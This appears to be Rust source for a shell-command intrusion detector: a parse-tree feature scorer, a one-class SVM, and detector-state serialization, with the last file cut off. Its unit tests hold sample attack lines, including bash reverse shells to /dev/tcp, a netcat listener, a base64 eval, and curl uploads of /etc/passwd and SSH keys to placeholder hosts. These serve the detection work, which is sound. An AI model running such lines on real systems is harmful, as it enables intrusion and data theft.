//! Structural side-channel detector over parse-tree shape statistics.
//!
//! Every other detector in this crate scores lines in the language
//! model's embedding space. [`StructuralDetector`] deliberately does
//! not: it scores each line by the [`shell_parser::script_features`]
//! vector — pipeline fan-out, expansion/substitution counts, nesting
//! depth, quoting overhead, suspicious redirect targets — extracted
//! from the full parse tree. Obfuscation that keeps the *token stream*
//! innocuous (quote splicing, `${v:-n}` tricks, decode pipelines buried
//! in command substitutions) inflates exactly these statistics, which
//! makes the structural channel complementary to the LM methods when
//! the [`crate::Detector`] scores are rank-fused.
//!
//! The fitted state is tiny and append-friendly: Welford running
//! moments of the benign feature distribution plus a bounded set of
//! malicious exemplar vectors. A line scores high when its features
//! are far from the benign moments (z-anomaly) or close to a malicious
//! exemplar in standardized space.

use crate::detector::{check_labels, Detector, DetectorError, EmbeddingView};
use shell_parser::{line_features, STRUCTURAL_DIM};

/// Exemplar-set bound: appends past this overwrite round-robin, so a
/// long-lived service cannot grow the detector without limit.
pub const MAX_EXEMPLARS: usize = 4096;

const EPS: f64 = 1e-6;

/// Index of the `parse_failed` flag in [`shell_parser::FEATURE_NAMES`]
/// order. The channel *abstains* (scores 0) on lines that carry it:
/// this is a parse-tree detector — no tree, no structural evidence.
/// In live traffic failed parses are overwhelmingly benign typos and
/// half-pasted lines (an attack line has to execute, so it parses),
/// and a non-zero abstention score would rank that noise above real
/// traffic in the fused ensemble.
const PARSE_FAILED: usize = STRUCTURAL_DIM - 1;

/// Score quantization: the channel reports coarse evidence levels, not
/// a continuous density. Two structurally equivalent lines routinely
/// land 1e-3 apart from incidental word counts; under rank fusion that
/// epsilon would span the hundreds of rank positions of a dense benign
/// cluster. Snapping to `1/SCORE_STEPS` makes such pairs exact ties,
/// which [`cmdline_ids::ensemble::rank_normalize`] then gives the
/// average rank — the channel stays neutral where it has no evidence.
const SCORE_STEPS: f64 = 16.0;

/// Per-dimension weights, in [`shell_parser::FEATURE_NAMES`] order.
///
/// The obfuscation-marker dimensions (suspicious redirect targets,
/// heredocs, operator-bearing expansions, substitution depth, spliced
/// words) carry full weight: benign traffic almost never moves them,
/// so any deviation is signal. The generic shape dimensions (command
/// counts, pipeline fan-out, redirects, ordinary quoting, bare
/// `$PATH`-style references, assignments) are down-weighted to 0.1 —
/// benign pipelines like `git diff | wc -l` and quoted arguments like
/// `echo "deploy done"` move them just as hard as attacks do, and at
/// full weight they drown the channel in shape noise. The `parse_failed` entry is moot
/// in practice: the channel abstains on unparseable lines and rejects
/// unparseable exemplars (see [`PARSE_FAILED`]), so every vector that
/// reaches a weighted computation has it at zero.
const DIM_WEIGHTS: [f64; STRUCTURAL_DIM] = [
    0.1, // simple_commands
    0.1, // max_pipeline_len
    0.1, // and_or_connectors
    0.1, // background_lists
    0.1, // redirects
    1.0, // suspicious_redirect_targets
    1.0, // heredoc_herestrings
    0.1, // param_expansions
    1.0, // param_modifiers
    1.0, // substitutions
    1.0, // max_subst_depth
    1.0, // arith_expansions
    0.1, // quote_removal_delta
    0.1, // quoted_words
    1.0, // spliced_words
    0.1, // compound_commands
    0.1, // assignments
    0.1, // parse_failed
];

/// Exemplar admission floor: a malicious line only joins the proximity
/// set when its own weighted z-part against the benign moments reaches
/// this value. Structurally *plain* malicious lines (`nc -lvnp 4444`
/// is feature-identical to `ls -la`) would otherwise hand proximity
/// ≈ 1 to every plain benign line and drown the channel; the rules
/// or LM methods own those — this detector keeps only exemplars that
/// are structurally distinctive.
const ADMIT_FLOOR: f64 = 0.5;

/// Fitted state: benign moments + malicious exemplars.
#[derive(Debug, Clone)]
pub struct FittedStructural {
    mean: [f64; STRUCTURAL_DIM],
    m2: [f64; STRUCTURAL_DIM],
    benign_count: u64,
    exemplars: Vec<[f32; STRUCTURAL_DIM]>,
    /// Total exemplars ever inserted — drives the round-robin overwrite
    /// position once the set is full.
    inserted: u64,
}

impl FittedStructural {
    fn new() -> Self {
        FittedStructural {
            mean: [0.0; STRUCTURAL_DIM],
            m2: [0.0; STRUCTURAL_DIM],
            benign_count: 0,
            exemplars: Vec::new(),
            inserted: 0,
        }
    }

    /// Rebuilds fitted state from its serialized parts (see
    /// [`crate::DetectorState`]).
    pub fn from_parts(
        mean: [f64; STRUCTURAL_DIM],
        m2: [f64; STRUCTURAL_DIM],
        benign_count: u64,
        exemplars: Vec<[f32; STRUCTURAL_DIM]>,
        inserted: u64,
    ) -> Self {
        FittedStructural {
            mean,
            m2,
            benign_count,
            exemplars,
            inserted,
        }
    }

    /// Benign feature means.
    pub fn mean(&self) -> &[f64; STRUCTURAL_DIM] {
        &self.mean
    }

    /// Benign sum of squared deviations (Welford's M2).
    pub fn m2(&self) -> &[f64; STRUCTURAL_DIM] {
        &self.m2
    }

    /// Number of benign lines absorbed.
    pub fn benign_count(&self) -> u64 {
        self.benign_count
    }

    /// Malicious exemplar feature vectors.
    pub fn exemplars(&self) -> &[[f32; STRUCTURAL_DIM]] {
        &self.exemplars
    }

    /// Total exemplars ever inserted (for round-robin resume).
    pub fn inserted(&self) -> u64 {
        self.inserted
    }

    fn absorb_benign(&mut self, line: &str) {
        let f = line_features(line);
        self.benign_count += 1;
        let n = self.benign_count as f64;
        for (d, &x) in f.iter().enumerate() {
            let x = x as f64;
            let delta = x - self.mean[d];
            self.mean[d] += delta / n;
            self.m2[d] += delta * (x - self.mean[d]);
        }
    }

    /// Offers a malicious line to the exemplar set; admitted only when
    /// it is structurally distinctive against the current benign
    /// moments (see [`ADMIT_FLOOR`]). With fewer than two benign lines
    /// absorbed there are no moments to judge by, so everything is
    /// admitted.
    fn offer_exemplar(&mut self, line: &str) {
        let f = line_features(line);
        // Unparseable exemplars can never match a scored line — the
        // channel abstains on those — so they would only waste a slot.
        if f[PARSE_FAILED] > 0.0 {
            return;
        }
        if self.benign_count >= 2 && self.z_part(&f) < ADMIT_FLOOR {
            return;
        }
        if self.exemplars.len() < MAX_EXEMPLARS {
            self.exemplars.push(f);
        } else {
            let at = (self.inserted % MAX_EXEMPLARS as u64) as usize;
            self.exemplars[at] = f;
        }
        self.inserted += 1;
    }

    fn std(&self, d: usize) -> f64 {
        if self.benign_count < 2 {
            return 0.0;
        }
        (self.m2[d] / (self.benign_count - 1) as f64).sqrt()
    }

    /// Largest weighted capped per-feature z-anomaly (`w·z/(1+z)`)
    /// against the benign moments — an L∞ norm in the weighted
    /// standardized space. The max (not a mean) because an obfuscation
    /// trick typically moves exactly one marker dimension (a `${v:-n}`
    /// splice only touches the expansion count); averaging dilutes it
    /// below the shape noise floor. Zero before two benign lines have
    /// been absorbed.
    fn z_part(&self, f: &[f32; STRUCTURAL_DIM]) -> f64 {
        if self.benign_count < 2 {
            return 0.0;
        }
        let mut best = 0.0f64;
        for d in 0..STRUCTURAL_DIM {
            let z = (f[d] as f64 - self.mean[d]).abs() / (self.std(d) + EPS);
            let u = DIM_WEIGHTS[d] * z / (1.0 + z);
            if u > best {
                best = u;
            }
        }
        best
    }

    fn score_line(&self, line: &str) -> f32 {
        let f = line_features(line);
        if f[PARSE_FAILED] > 0.0 {
            return 0.0;
        }
        let z_part = self.z_part(&f);
        // Proximity to the nearest malicious exemplar, in the same
        // weighted benign-standardized space the z-part uses, so a
        // benign pipeline is not "near" a decode-pipeline exemplar
        // merely by sharing its fan-out.
        let mut proximity = 0.0f64;
        if !self.exemplars.is_empty() {
            let mut best = f64::INFINITY;
            for e in &self.exemplars {
                let mut d2 = 0.0f64;
                for d in 0..STRUCTURAL_DIM {
                    let s = self.std(d) + EPS;
                    let diff = (f[d] as f64 - e[d] as f64) / s;
                    d2 += DIM_WEIGHTS[d] * diff * diff;
                }
                if d2 < best {
                    best = d2;
                }
            }
            proximity = 1.0 / (1.0 + best.sqrt());
        }
        ((0.5 * z_part + 0.5 * proximity) * SCORE_STEPS).round() as f32 / SCORE_STEPS as f32
    }
}

/// The structural side-channel detector (method name `"structural"`).
///
/// Reports [`Detector::wants_embeddings`]` == false`: engines drive it
/// with lines-only views and never pay an encoder pass for it.
#[derive(Debug, Clone, Default)]
pub struct StructuralDetector {
    fitted: Option<FittedStructural>,
}

impl StructuralDetector {
    /// Creates an unfitted detector.
    pub fn new() -> Self {
        StructuralDetector { fitted: None }
    }

    /// Rebuilds a fitted detector from captured state.
    pub fn from_fitted(fitted: FittedStructural) -> Self {
        StructuralDetector {
            fitted: Some(fitted),
        }
    }

    /// The fitted state, if [`Detector::fit`] has run.
    pub fn fitted(&self) -> Option<&FittedStructural> {
        self.fitted.as_ref()
    }

    fn require_lines(view: &EmbeddingView) -> Result<&[String], DetectorError> {
        if view.lines().len() != view.len() {
            return Err(DetectorError::MissingLines);
        }
        Ok(view.lines())
    }
}

impl Detector for StructuralDetector {
    fn name(&self) -> &str {
        "structural"
    }

    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
        check_labels(train, labels)?;
        let lines = Self::require_lines(train)?;
        let mut fitted = FittedStructural::new();
        // Two passes: the benign moments must be complete before any
        // exemplar is judged for admission, or the gate would depend
        // on line order within the batch.
        for (line, &label) in lines.iter().zip(labels) {
            if !label {
                fitted.absorb_benign(line);
            }
        }
        for (line, &label) in lines.iter().zip(labels) {
            if label {
                fitted.offer_exemplar(line);
            }
        }
        self.fitted = Some(fitted);
        Ok(())
    }

    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32> {
        let fitted = self
            .fitted
            .as_ref()
            .expect("StructuralDetector::score_batch before fit");
        let lines = Self::require_lines(test).expect("structural scoring needs source lines");
        lines.iter().map(|l| fitted.score_line(l)).collect()
    }

    fn absorbs_appends(&self) -> bool {
        true
    }

    fn append(&mut self, batch: &EmbeddingView, labels: &[bool]) -> Result<bool, DetectorError> {
        check_labels(batch, labels)?;
        let lines = Self::require_lines(batch)?;
        let fitted = self.fitted.get_or_insert_with(FittedStructural::new);
        for (line, &label) in lines.iter().zip(labels) {
            if !label {
                fitted.absorb_benign(line);
            }
        }
        for (line, &label) in lines.iter().zip(labels) {
            if label {
                fitted.offer_exemplar(line);
            }
        }
        Ok(true)
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn wants_embeddings(&self) -> bool {
        false
    }

    fn resident_bytes(&self) -> Option<usize> {
        self.fitted.as_ref().map(|f| {
            f.exemplars.len() * STRUCTURAL_DIM * std::mem::size_of::<f32>()
                + 2 * STRUCTURAL_DIM * std::mem::size_of::<f64>()
                + 2 * std::mem::size_of::<u64>()
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn view(lines: &[&str]) -> EmbeddingView {
        EmbeddingView::lines_only(lines.iter().map(|s| s.to_string()).collect())
    }

    const BENIGN: &[&str] = &[
        "ls -la /tmp",
        "cd /var/log",
        "git status",
        "cat README.md",
        "grep -rn error /var/log/syslog",
        "docker ps -a",
        "df -h",
        "ps aux",
        "vim config.yaml",
        "mkdir -p /srv/app/new",
        "cp main.py /srv/app",
        "tar -czf backup.tar.gz /srv/app",
        "find /var/log -name \"*.log\"",
        "awk '{print $1}' access.log",
        "curl -s https://mirror.example.com/install.sh",
        "python3 main.py --epochs 10",
    ];

    fn fitted_on_benign_plus(malicious: &[&str]) -> StructuralDetector {
        let mut det = StructuralDetector::new();
        let mut lines: Vec<&str> = BENIGN.to_vec();
        let mut labels = vec![false; lines.len()];
        lines.extend_from_slice(malicious);
        labels.extend(std::iter::repeat_n(true, malicious.len()));
        det.fit(&view(&lines), &labels).unwrap();
        det
    }

    #[test]
    fn obfuscated_lines_outscore_benign() {
        let det = fitted_on_benign_plus(&["bash -i >& /dev/tcp/1.2.3.4/9001 0>&1"]);
        let scores = det.score_batch(&view(&[
            "ls -la /tmp",
            "${x:-n}c -lvnp 4444",
            "eval $(echo QUJD= | base64 -d)",
            "bash -i >& /dev/${t:-tcp}/10.0.0.1/4444 0>&1",
        ]));
        let benign = scores[0];
        for (i, s) in scores.iter().enumerate().skip(1) {
            assert!(
                *s > benign,
                "obfuscated line {i} scored {s} <= benign {benign}"
            );
        }
    }

    #[test]
    fn exemplar_proximity_raises_scores() {
        let without = fitted_on_benign_plus(&[]);
        let with = fitted_on_benign_plus(&["curl -T $(tar czf - /etc/passwd) ftp://h/up/"]);
        let line = ["curl -T $(tar czf - /root/.ssh) ftp://e/drop/"];
        let s_without = without.score_batch(&view(&line))[0];
        let s_with = with.score_batch(&view(&line))[0];
        assert!(
            s_with > s_without,
            "exemplar should raise the score: {s_with} <= {s_without}"
        );
    }

    #[test]
    fn append_absorbs_new_exemplars() {
        let mut det = fitted_on_benign_plus(&[]);
        assert!(det.fitted().unwrap().exemplars().is_empty());
        let absorbed = det
            .append(&view(&["eval $(printf aGk= | base64 -d)"]), &[true])
            .unwrap();
        assert!(absorbed);
        assert_eq!(det.fitted().unwrap().exemplars().len(), 1);
        // Benign appends update the moments instead.
        let n_before = det.fitted().unwrap().benign_count();
        det.append(&view(&["ls"]), &[false]).unwrap();
        assert_eq!(det.fitted().unwrap().benign_count(), n_before + 1);
    }

    #[test]
    fn exemplar_set_is_bounded() {
        let mut f = FittedStructural::new();
        for i in 0..(MAX_EXEMPLARS + 10) {
            f.offer_exemplar(&format!("nc -lvnp {i}"));
        }
        assert_eq!(f.exemplars().len(), MAX_EXEMPLARS);
        assert_eq!(f.inserted(), (MAX_EXEMPLARS + 10) as u64);
    }

    #[test]
    fn lines_only_views_are_required_and_sufficient() {
        let mut det = StructuralDetector::new();
        // A matrix-only view has no lines to parse.
        let m = linalg::Matrix::from_fn(3, 2, |r, c| (r + c) as f32);
        let e = det.fit(&EmbeddingView::from_matrix(m), &[false, false, true]);
        assert_eq!(e, Err(DetectorError::MissingLines));
        // A lines-only view is all it needs.
        assert!(det
            .fit(&view(&["ls", "nc -lvnp 1"]), &[false, true])
            .is_ok());
    }

    #[test]
    fn scores_are_deterministic_and_aligned() {
        let det = fitted_on_benign_plus(&["nc -lvnp 4444"]);
        let t = view(&["ls -la /tmp", "nc -lvnp 9001", "pwd"]);
        let a = det.score_batch(&t);
        let b = det.score_batch(&t);
        assert_eq!(a, b);
        assert_eq!(a.len(), 3);
        assert!(det.test_aligned());
        assert!(!det.wants_embeddings());
    }

    #[test]
    fn invalid_lines_get_an_abstention_score() {
        let det = fitted_on_benign_plus(&["bash -i >& /dev/tcp/1.2.3.4/9001 0>&1"]);
        let scores = det.score_batch(&view(&["ls -la /tmp", "/*/*/* -> /*/*/* ->"]));
        assert_eq!(scores[1], 0.0, "no parse tree, no structural evidence");
        // Unparseable exemplars are never admitted either.
        let mut det = det;
        det.append(&view(&["grep pattern && &&"]), &[true]).unwrap();
        assert_eq!(det.fitted().unwrap().exemplars().len(), 1);
    }

    #[test]
    fn resident_bytes_reported_after_fit() {
        let mut det = StructuralDetector::new();
        assert_eq!(det.resident_bytes(), None);
        det.fit(&view(&["ls", "nc -lvnp 1"]), &[false, true])
            .unwrap();
        assert!(det.resident_bytes().unwrap() > 0);
    }
}
