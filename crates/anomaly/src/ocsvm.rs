//! Linear one-class SVM (Schölkopf et al., the paper's reference [18]).
//!
//! The ν-formulation trained by projected stochastic sub-gradient
//! descent:
//!
//! ```text
//! min_{w,ρ}  ½‖w‖² − ρ + (1/νn) Σ max(0, ρ − ⟨w, xᵢ⟩)
//! ```
//!
//! Anomaly score: `ρ − ⟨w, x⟩` (positive = outside the learned support).

use linalg::Matrix;
use rand::seq::SliceRandom;
use rand::Rng;

/// A trained linear one-class SVM.
#[derive(Debug, Clone)]
pub struct OneClassSvm {
    w: Vec<f32>,
    rho: f32,
}

impl OneClassSvm {
    /// Fits on training embeddings `(n, d)`.
    ///
    /// `nu ∈ (0, 1]` bounds the outlier fraction; `epochs` passes of SGD
    /// with learning rate `1/(λ·t)` scheduling are performed.
    ///
    /// # Panics
    ///
    /// Panics if `data` is empty or `nu ∉ (0, 1]`.
    pub fn fit<R: Rng + ?Sized>(rng: &mut R, data: &Matrix, nu: f32, epochs: usize) -> Self {
        assert!(data.rows() > 0, "one-class SVM needs training data");
        assert!(nu > 0.0 && nu <= 1.0, "nu must be in (0, 1], got {nu}");
        let n = data.rows();
        let d = data.cols();
        let mut w = vec![0.0f32; d];
        let mut rho = 0.0f32;
        let lambda = 1.0; // weight of ½‖w‖²
        let inv_nu_n = 1.0 / (nu * n as f32);

        let mut order: Vec<usize> = (0..n).collect();
        let mut t = 0u64;
        for _ in 0..epochs.max(1) {
            order.shuffle(rng);
            for &i in &order {
                t += 1;
                let lr = 1.0 / (lambda * t as f32).max(1.0);
                let x = data.row(i);
                let margin: f32 = w.iter().zip(x).map(|(a, b)| a * b).sum();
                // Sub-gradients.
                let violated = margin < rho;
                for (wj, xj) in w.iter_mut().zip(x) {
                    let grad = lambda * *wj
                        - if violated {
                            inv_nu_n * n as f32 * xj
                        } else {
                            0.0
                        };
                    *wj -= lr * grad;
                }
                let drho = -1.0 + if violated { inv_nu_n * n as f32 } else { 0.0 };
                rho -= lr * drho;
            }
        }
        OneClassSvm { w, rho }
    }

    /// The learned offset ρ.
    pub fn rho(&self) -> f32 {
        self.rho
    }

    /// Anomaly score: `ρ − ⟨w, x⟩`; higher = more anomalous.
    ///
    /// # Panics
    ///
    /// Panics if `x` has the wrong dimensionality.
    pub fn score(&self, x: &[f32]) -> f32 {
        assert_eq!(x.len(), self.w.len(), "dimension mismatch");
        self.rho - self.w.iter().zip(x).map(|(a, b)| a * b).sum::<f32>()
    }

    /// Scores every row.
    pub fn score_all(&self, data: &Matrix) -> Vec<f32> {
        (0..data.rows()).map(|r| self.score(data.row(r))).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    /// Benign cluster near (3, 3, …); anomalies near the origin's
    /// opposite side.
    fn cluster(rng: &mut StdRng, n: usize, d: usize, center: f32) -> Matrix {
        Matrix::from_fn(n, d, |_, _| {
            center + linalg::rng::standard_normal(rng) * 0.3
        })
    }

    #[test]
    fn separates_cluster_from_far_point() {
        let mut rng = StdRng::seed_from_u64(1);
        let train = cluster(&mut rng, 200, 4, 3.0);
        let svm = OneClassSvm::fit(&mut rng, &train, 0.1, 10);
        let inlier = [3.0, 3.0, 3.0, 3.0];
        let outlier = [-3.0, -3.0, -3.0, -3.0];
        assert!(
            svm.score(&outlier) > svm.score(&inlier),
            "outlier {} vs inlier {}",
            svm.score(&outlier),
            svm.score(&inlier)
        );
    }

    #[test]
    fn most_training_points_are_inliers() {
        let mut rng = StdRng::seed_from_u64(2);
        let train = cluster(&mut rng, 300, 6, 2.0);
        let svm = OneClassSvm::fit(&mut rng, &train, 0.1, 10);
        let scores = svm.score_all(&train);
        let inside = scores.iter().filter(|&&s| s <= 0.0).count();
        // ν=0.1 bounds outliers at roughly 10%; allow slack for SGD.
        assert!(
            inside as f32 / 300.0 > 0.7,
            "only {inside}/300 inside the support"
        );
    }

    #[test]
    fn score_all_matches_single() {
        let mut rng = StdRng::seed_from_u64(3);
        let train = cluster(&mut rng, 50, 3, 1.0);
        let svm = OneClassSvm::fit(&mut rng, &train, 0.2, 5);
        let all = svm.score_all(&train);
        assert_eq!(all[7], svm.score(train.row(7)));
    }

    #[test]
    #[should_panic(expected = "nu must be")]
    fn bad_nu_panics() {
        let mut rng = StdRng::seed_from_u64(4);
        let _ = OneClassSvm::fit(&mut rng, &Matrix::zeros(2, 2), 0.0, 1);
    }

    #[test]
    #[should_panic(expected = "dimension mismatch")]
    fn wrong_dim_panics() {
        let mut rng = StdRng::seed_from_u64(5);
        let train = cluster(&mut rng, 10, 3, 1.0);
        let svm = OneClassSvm::fit(&mut rng, &train, 0.5, 2);
        let _ = svm.score(&[1.0, 2.0]);
    }
}
