//! Serializable fitted-detector state for serving snapshots.
//!
//! A long-lived scoring service wants to cold-start with its exemplar
//! indexes already built. [`DetectorState`] captures the fitted state
//! of the methods whose state *is* an index — retrieval and vanilla
//! kNN, the two neighbour-based detectors — as detector params plus an
//! [`IndexSnapshot`] (graph, candidate matrix, norms). Methods that
//! re-fit cheaply from data (PCA, iforest, OCSVM) or that own a tuned
//! encoder (classification, reconstruction) are deliberately out of
//! scope: the former refit in milliseconds, the latter are the
//! pipeline's to persist.

use crate::detector::Detector;
use crate::{RetrievalDetector, RetrievalMethod, VanillaKnn, VanillaKnnMethod};
use index::persist::{ByteReader, ByteWriter, PersistError};
use index::IndexSnapshot;
use serde::{Deserialize, Serialize};

const TAG_RETRIEVAL: u8 = 0;
const TAG_VANILLA_KNN: u8 = 1;

/// Candidate-row count of a decoded index snapshot.
fn index_rows(index: &IndexSnapshot) -> usize {
    match index {
        IndexSnapshot::Exact { data, .. } | IndexSnapshot::Hnsw { data, .. } => data.rows(),
    }
}

/// The serializable fitted state of one snapshot-capable detector.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub enum DetectorState {
    /// [`RetrievalMethod`]: `k` plus the malicious-exemplar index.
    Retrieval {
        /// Neighbours averaged per score.
        k: usize,
        /// The built exemplar index.
        index: IndexSnapshot,
    },
    /// [`VanillaKnnMethod`]: `k`, per-id labels, and the full index.
    VanillaKnn {
        /// Neighbours voted over.
        k: usize,
        /// Per-id labels aligned with the index rows.
        labels: Vec<bool>,
        /// The built training-set index.
        index: IndexSnapshot,
    },
}

impl DetectorState {
    /// Captures a fitted detector's state. Returns `None` when the
    /// detector is not snapshot-capable (see the module docs) or not
    /// fitted yet.
    pub fn capture(detector: &dyn Detector) -> Option<DetectorState> {
        if let Some(m) = detector.as_any().downcast_ref::<RetrievalMethod>() {
            let fitted = m.fitted()?;
            return Some(DetectorState::Retrieval {
                k: fitted.k(),
                index: IndexSnapshot::capture(fitted.index())?,
            });
        }
        if let Some(m) = detector.as_any().downcast_ref::<VanillaKnnMethod>() {
            let fitted = m.fitted()?;
            return Some(DetectorState::VanillaKnn {
                k: fitted.k(),
                labels: fitted.labels().to_vec(),
                index: IndexSnapshot::capture(fitted.index())?,
            });
        }
        None
    }

    /// Rebuilds a fitted, ready-to-score detector. HNSW-backed states
    /// adopt the saved graph without a construction pass.
    pub fn restore(self) -> Box<dyn Detector> {
        match self {
            DetectorState::Retrieval { k, index } => Box::new(RetrievalMethod::from_fitted(
                RetrievalDetector::from_index(index.restore(), k),
            )),
            DetectorState::VanillaKnn { k, labels, index } => Box::new(
                VanillaKnnMethod::from_fitted(VanillaKnn::from_parts(index.restore(), labels, k)),
            ),
        }
    }

    /// The method name the restored detector will report.
    pub fn name(&self) -> &'static str {
        match self {
            DetectorState::Retrieval { .. } => "retrieval",
            DetectorState::VanillaKnn { .. } => "vanilla-knn",
        }
    }

    /// Appends the state to an open binary frame.
    pub fn write(&self, w: &mut ByteWriter) {
        match self {
            DetectorState::Retrieval { k, index } => {
                w.put_u8(TAG_RETRIEVAL);
                w.put_usize(*k);
                index.write(w);
            }
            DetectorState::VanillaKnn { k, labels, index } => {
                w.put_u8(TAG_VANILLA_KNN);
                w.put_usize(*k);
                w.put_bools(labels);
                index.write(w);
            }
        }
    }

    /// Reads a state written by [`DetectorState::write`].
    pub fn read(r: &mut ByteReader<'_>) -> Result<DetectorState, PersistError> {
        match r.get_u8()? {
            TAG_RETRIEVAL => {
                let k = r.get_usize()?;
                if k == 0 {
                    return Err(PersistError::Corrupt("k must be positive"));
                }
                let index = IndexSnapshot::read(r)?;
                // Both fitted detectors require a non-empty index
                // (asserted by their constructors); reject it here so
                // a corrupt frame errors instead of panicking restore.
                if index_rows(&index) == 0 {
                    return Err(PersistError::Corrupt("empty exemplar index"));
                }
                Ok(DetectorState::Retrieval { k, index })
            }
            TAG_VANILLA_KNN => {
                let k = r.get_usize()?;
                if k == 0 {
                    return Err(PersistError::Corrupt("k must be positive"));
                }
                let labels = r.get_bools()?;
                let index = IndexSnapshot::read(r)?;
                if index_rows(&index) == 0 {
                    return Err(PersistError::Corrupt("empty training index"));
                }
                if index_rows(&index) != labels.len() {
                    return Err(PersistError::Corrupt("label count != row count"));
                }
                Ok(DetectorState::VanillaKnn { k, labels, index })
            }
            tag => Err(PersistError::BadTag(tag)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{EmbeddingView, PcaMethod};
    use index::IndexConfig;
    use linalg::Matrix;

    fn toy() -> (EmbeddingView, Vec<bool>) {
        let rows: Vec<Vec<f32>> = vec![
            vec![1.0, 0.05, 0.0],
            vec![0.9, -0.05, 0.1],
            vec![0.0, 1.0, 0.0],
            vec![0.1, 0.9, 0.0],
            vec![-0.05, 1.0, 0.1],
        ];
        let m = Matrix::from_fn(5, 3, |r, c| rows[r][c]);
        (
            EmbeddingView::from_matrix(m),
            vec![true, true, false, false, false],
        )
    }

    #[test]
    fn round_trip_preserves_scores_for_both_methods_and_backends() {
        let (view, labels) = toy();
        for config in [IndexConfig::Exact, IndexConfig::hnsw()] {
            let mut dets: Vec<Box<dyn Detector>> = vec![
                Box::new(RetrievalMethod::with_index(1, config)),
                Box::new(VanillaKnnMethod::with_index(3, config)),
            ];
            for det in &mut dets {
                det.fit(&view, &labels).unwrap();
                let want = det.score_batch(&view);
                let state = DetectorState::capture(det.as_ref()).expect("snapshot-capable");
                let mut w = ByteWriter::new();
                state.write(&mut w);
                let bytes = w.into_bytes();
                let mut r = ByteReader::new(&bytes);
                let restored = DetectorState::read(&mut r).unwrap().restore();
                assert_eq!(restored.name(), det.name());
                assert_eq!(restored.score_batch(&view), want, "{}", det.name());
            }
        }
    }

    #[test]
    fn unfitted_and_unsupported_detectors_are_not_capturable() {
        assert!(DetectorState::capture(&RetrievalMethod::new(1)).is_none());
        assert!(DetectorState::capture(&PcaMethod::new(0.95)).is_none());
    }

    #[test]
    fn appends_survive_a_round_trip() {
        let (view, labels) = toy();
        let mut det = RetrievalMethod::new(1);
        det.fit(&view, &labels).unwrap();
        let extra = EmbeddingView::from_matrix(Matrix::from_rows(&[&[0.7, 0.7, 0.0]]));
        assert_eq!(det.append(&extra, &[true]), Ok(true));
        assert_eq!(det.n_exemplars(), Some(3));
        let state = DetectorState::capture(&det).unwrap();
        let restored = state.restore();
        assert_eq!(restored.score_batch(&view), det.score_batch(&view));
    }
}
