//! Serializable fitted-detector state for serving snapshots.
//!
//! A long-lived scoring service wants to cold-start with its exemplar
//! indexes already built. [`DetectorState`] captures the fitted state
//! of the methods whose state *is* an index — retrieval and vanilla
//! kNN, the two neighbour-based detectors — as detector params plus an
//! [`IndexSnapshot`] (graph, candidate matrix, norms). Methods that
//! re-fit cheaply from data (PCA, iforest, OCSVM) or that own a tuned
//! encoder (classification, reconstruction) are deliberately out of
//! scope: the former refit in milliseconds, the latter are the
//! pipeline's to persist.

use crate::detector::Detector;
use crate::structural::{FittedStructural, StructuralDetector};
use crate::{RetrievalDetector, RetrievalMethod, VanillaKnn, VanillaKnnMethod};
use index::persist::{ByteReader, ByteWriter, PersistError};
use index::{IndexSnapshot, Quantization, QuantizedMatrix, ShardBackend, ShardedParams};
use serde::{Deserialize, Serialize};
use shell_parser::STRUCTURAL_DIM;

const TAG_RETRIEVAL: u8 = 0;
const TAG_VANILLA_KNN: u8 = 1;
const TAG_STRUCTURAL: u8 = 2;

/// Candidate-row count of a decoded index snapshot.
fn index_rows(index: &IndexSnapshot) -> usize {
    index.rows()
}

/// An empty index snapshot of the given backend shape and storage
/// format — the frame a shard that holds no rows (yet) contributes to
/// a sharded manifest. Carrying the format matters: an exemplar later
/// routed to the empty shard must quantize the way its siblings do.
fn empty_snapshot(backend: ShardBackend, dim: usize, quant: Quantization) -> IndexSnapshot {
    match backend {
        ShardBackend::Exact => IndexSnapshot::Exact {
            data: QuantizedMatrix::empty(quant, dim),
            norms: Vec::new(),
        },
        ShardBackend::Hnsw(params) => IndexSnapshot::Hnsw {
            data: QuantizedMatrix::empty(quant, dim),
            norms: Vec::new(),
            params,
            links: Vec::new(),
            entry: 0,
            top_level: 0,
            tombstone: Vec::new(),
            draws: 0,
        },
    }
}

/// The serializable fitted state of one snapshot-capable detector.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub enum DetectorState {
    /// [`RetrievalMethod`]: `k` plus the malicious-exemplar index.
    Retrieval {
        /// Neighbours averaged per score.
        k: usize,
        /// The built exemplar index.
        index: IndexSnapshot,
    },
    /// [`VanillaKnnMethod`]: `k`, per-id labels, and the full index.
    VanillaKnn {
        /// Neighbours voted over.
        k: usize,
        /// Per-id labels aligned with the index rows.
        labels: Vec<bool>,
        /// The built training-set index.
        index: IndexSnapshot,
    },
    /// [`StructuralDetector`]: benign feature moments plus malicious
    /// exemplar feature vectors — no index, just flat statistics.
    Structural {
        /// Benign per-feature means (length [`STRUCTURAL_DIM`]).
        mean: Vec<f64>,
        /// Benign Welford M2 accumulators (length [`STRUCTURAL_DIM`]).
        m2: Vec<f64>,
        /// Benign lines absorbed.
        benign_count: u64,
        /// Malicious exemplar rows, flattened ([`STRUCTURAL_DIM`] each).
        exemplars: Vec<f32>,
        /// Exemplars ever inserted (round-robin overwrite position).
        inserted: u64,
    },
}

impl DetectorState {
    /// Captures a fitted detector's state. Returns `None` when the
    /// detector is not snapshot-capable (see the module docs) or not
    /// fitted yet.
    pub fn capture(detector: &dyn Detector) -> Option<DetectorState> {
        if let Some(m) = detector.as_any().downcast_ref::<RetrievalMethod>() {
            let fitted = m.fitted()?;
            return Some(DetectorState::Retrieval {
                k: fitted.k(),
                index: IndexSnapshot::capture(fitted.index())?,
            });
        }
        if let Some(m) = detector.as_any().downcast_ref::<VanillaKnnMethod>() {
            let fitted = m.fitted()?;
            return Some(DetectorState::VanillaKnn {
                k: fitted.k(),
                labels: fitted.labels().to_vec(),
                index: IndexSnapshot::capture(fitted.index())?,
            });
        }
        if let Some(m) = detector.as_any().downcast_ref::<StructuralDetector>() {
            let fitted = m.fitted()?;
            return Some(DetectorState::Structural {
                mean: fitted.mean().to_vec(),
